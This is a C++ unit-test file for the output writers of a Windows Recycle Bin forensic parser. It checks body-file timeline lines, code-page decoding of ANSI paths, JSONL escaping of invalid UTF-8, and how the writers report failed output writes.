TEST_F(Writers, BodyFileCompanionChangeTimeAndEntry) {
  const std::string out = run("body", {everything(rec_)});
  // The companion's line carries its MD5 (--hash=md5); the deletion's line
  // has none.
  EXPECT_EQ(out,
            "0|C:\\Temp\\foobat.txt.txt (deleted; "
            "IMAGE:p2:/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$I7R52EG.txt)|0|0|0|0|14|"
            "1428168249|1428168249|1428168249|1428168249\n"
            "0cc175b9c0f1b6a831c399e269772661|C:\\Temp\\foobat.txt.txt (recycled content; "
            "IMAGE:p2:/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$R7R52EG.txt)|142|0|0|0|14|"
            "1622548800|1577934245|1428168249|1557262861\n");
}

// A scanned record's line names where it lies: its source and offset.
TEST_F(Writers, BodyFileNamesAScannedRecordByItsOffset) {
  RecycleRecord r = everything(rec_);
  r.source_prefix = "SCAN:p2:";
  r.directory = "";
  r.file_name = "";
  r.entry_name = "SCAN:p2:1048576";
  r.companion = CompanionInfo();
  r.warnings = kWarnRecovered | kWarnScanned;
  EXPECT_EQ(run("body", {r}),
            "0|C:\\Temp\\foobat.txt.txt (deleted; SCAN:p2:1048576)|0|0|0|0|14|"
            "1428168249|1428168249|1428168249|1428168249\n");
}

TEST_F(Writers, AnsiPathBytesTheCodePageDoesNotDefine) {
  // A Windows 95 path in code page 932: 0x81 0x40 is U+3000, and 0x81 is
  // not a character of code page 1252.
  static const std::string ansi = "C:\\\x81\x40.txt";
  RecycleRecord r = rec_.info2_purged();
  r.path_ansi = bytes(ansi);
  r.path_ansi_length = ansi.size();
  r.drive_letter = 0;
  r.warnings = 0;
  const auto fields_in = [&](const char* codepage) {
    WriterSettings settings;
    settings.codepage = codepage;
    auto writer = make_structured_writer("csv", &sink_, settings);
    EXPECT_TRUE(writer->write_record(r));
    const auto rows = parse_csv(tree_.read("out"));
    return rows.empty() ? std::vector<std::string>() : rows.back();
  };
  const std::vector<std::string> western = fields_in("CP1252");
  ASSERT_EQ(western.size(), kFieldNames.size());
  EXPECT_EQ(western[5], "C:\\\xEF\xBF\xBD@.txt");
  EXPECT_EQ(western[12], "codepage-undefined");
  const std::vector<std::string> japanese = fields_in("CP932");
  ASSERT_EQ(japanese.size(), kFieldNames.size());
  EXPECT_EQ(japanese[5], "C:\\\xE3\x80\x80.txt");
  EXPECT_EQ(japanese[12], "");
  // A UTF-16 path is never in doubt for the code page.
  RecycleRecord utf16 = rec_.cjk();
  utf16.path_ansi = bytes(ansi);
  utf16.path_ansi_length = ansi.size();
  r = utf16;
  EXPECT_EQ(fields_in("CP1252")[12], "");
}

TEST_F(Writers, BodyAndJsonHaveNoHeader) {
  EXPECT_EQ(run("body", {}), "");
  EXPECT_EQ(run("jsonl", {}), "");
}

TEST_F(Writers, SourceBytesThatAreNotUtf8) {
  RecycleRecord r = rec_.cjk();
  r.directory = "/m/\xE9t\xE9/";
  const std::string out = run("jsonl", {r});
  const std::string want = "{\"source\":\"/m/\xEF\xBF\xBDt\xEF\xBF\xBD/$IBBFODN\",";
  EXPECT_EQ(out.substr(0, want.size()), want);
}

TEST_F(Writers, OutputFileGetsTheSameBytes) {
  const std::string copy_path = tree_.path("copy");
  const FileHandle copy = open_output_device(copy_path.c_str(), false);
  ASSERT_NE(copy, kInvalidHandle);
  sink_.set_copy(copy);
  const std::string out = run("csv", {rec_.cjk(), rec_.awkward()});
  close_file(copy);
  EXPECT_EQ(tree_.read("copy"), out);
  EXPECT_GT(out.size(), 200u);
}

TEST_F(Writers, SeedIsNotAStructuredFormat) {
  EXPECT_EQ(make_structured_writer("seed", &sink_, WriterSettings()), nullptr);
}

TEST_F(Writers, FailedWriteIsReported) {
  ReportSink broken(kInvalidHandle);
  auto writer = make_structured_writer("csv", &broken, WriterSettings());
  ASSERT_NE(writer, nullptr);
  EXPECT_FALSE(writer->write_header());
  EXPECT_FALSE(writer->write_record(rec_.cjk()));
}

TEST_F(Writers, TheSinkNamesTheFirstDestinationThatFailed) {
  // The output file fails (a full device), standard output takes the bytes.
  const FileHandle full = open_output_device("/dev/full", false);
  ASSERT_NE(full, kInvalidHandle);
  ReportSink sink(handle_);
  sink.set_copy(full);
  EXPECT_TRUE(sink.failure_reason().empty());
  EXPECT_FALSE(sink.write("a\n", 2));
  EXPECT_EQ(sink.failed(), full);
  EXPECT_EQ(sink.failure_reason(), strerror(ENOSPC));
  EXPECT_EQ(tree_.read("out"), "a\n");
  // Later failures keep the first one.
  ReportSink both(full);
  both.set_copy(kInvalidHandle - 1);
  EXPECT_FALSE(both.write("b", 1));
  EXPECT_EQ(both.failed(), full);
  close_file(full);
}

}  // namespace
